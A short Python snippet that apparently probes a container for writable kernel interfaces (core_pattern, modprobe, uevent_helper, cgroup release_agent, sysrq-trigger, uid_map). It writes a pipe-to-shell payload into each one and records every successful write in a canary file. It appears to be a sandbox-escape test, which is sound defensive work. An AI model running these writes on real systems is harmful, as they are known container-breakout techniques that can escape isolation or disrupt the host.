"""Writes to /proc/sys, /sys and other doors of the system that a container may have left open."""

# %% own
import contextlib, glob

for path in ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/user/max_user_namespaces", "/proc/sysrq-trigger",
             "/proc/1/uid_map", "/proc/self/uid_map", "/sys/kernel/uevent_helper", *glob.glob("/sys/fs/cgroup/*release_agent")]:
    with contextlib.suppress(OSError):
        open(path, "w").write(f"|/bin/sh -c 'echo x > {CANARY}'")
        open(CANARY, "w").write(path)
